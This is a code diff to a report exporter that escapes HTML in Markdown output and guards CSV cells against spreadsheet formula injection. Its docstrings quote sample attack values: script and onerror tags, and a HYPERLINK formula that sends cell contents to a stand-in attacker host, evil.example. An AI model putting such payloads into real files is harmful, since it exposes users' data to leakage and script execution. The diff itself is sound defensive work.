@@ -197,7 +197,19 @@ def _md_cell(v) -> str:
 
 
 def _md_cell_text(text: str) -> str:
-    return text.replace("\\", "\\\\").replace("|", "\\|").replace("\n", " ")
+    return _md_no_html(text.replace("\\", "\\\\").replace("|", "\\|").replace("\n", " "))
+
+
+CODE_SPAN = re.compile(r"(`[^`]*`)")
+
+
+def _md_no_html(text: str) -> str:
+    """text with "&", "<" and ">" as character references outside `code spans`, so that a
+    value from the data ("<script>", "<img onerror=...>") is shown as text by a Markdown
+    renderer that lets HTML through, not run (a maintainer's trial; report.html escapes
+    everything already)."""
+    return "".join(part if i % 2 else part.replace("&", "&amp;").replace("<", "&lt;")
+                   .replace(">", "&gt;") for i, part in enumerate(CODE_SPAN.split(text)))
 
 
 def _md_link(source_id: str) -> str:
@@ -206,7 +218,8 @@ def _md_link(source_id: str) -> str:
 
 def _md_prose(text: str, known) -> str:
     """Text with each citation of a known source as links to the Sources list."""
-    return "".join(seg if ids is None else "[" + ", ".join(_md_link(i) for i in ids) + "]"
+    return "".join(_md_no_html(seg) if ids is None
+                   else "[" + ", ".join(_md_link(i) for i in ids) + "]"
                    for seg, ids in _split_prose(text, known))
 
 
@@ -279,12 +292,12 @@ def markdown(doc: Doc) -> str:
     out = [f"# {doc.title}", ""]
     contents = _contents(doc)
     if contents:
-        out += ["Contents:", ""] + [f"- [{h}](#{a})" for a, h in contents] + [""]
+        out += ["Contents:", ""] + [f"- [{_md_no_html(h)}](#{a})" for a, h in contents] + [""]
     for b in doc.blocks:
         if b[0] == "h2":
-            out += [f"## {b[1]}", ""]
+            out += [f"## {_md_no_html(b[1])}", ""]
         elif b[0] == "h3":
-            out += [f"### {b[1]}", ""]
+            out += [f"### {_md_no_html(b[1])}", ""]
         elif b[0] == "p":
             out += [_md_prose(b[1], known), ""]
         elif b[0] == "ul":
@@ -420,12 +433,27 @@ def page(doc: Doc, images: dict[str, bytes]) -> str:
     return "\n".join(out) + "\n"
 
 
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cell(v) -> str:
+    """A CSV cell: `cell(v)`, and a text (not a number) that a spreadsheet would take for
+    a formula (it starts with =, +, -, @, a tab or a carriage return: OWASP's list) with a
+    "'" before it, so that Excel or LibreOffice shows it instead of running it (a
+    maintainer's trial: a model named '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    passed validation and was written as it was into centrality.csv)."""
+    text = cell(v)
+    if isinstance(v, str) and text.startswith(FORMULA_START):
+        return "'" + text
+    return text
+
+
 def csv_text(t: Table) -> str:
     buf = io.StringIO()
     w = csv.writer(buf, lineterminator="\n")
     w.writerow(t.columns)
     for r in t.rows:
-        w.writerow([cell(c) for c in r])
+        w.writerow([csv_cell(c) for c in r])
     return buf.getvalue()
 
 
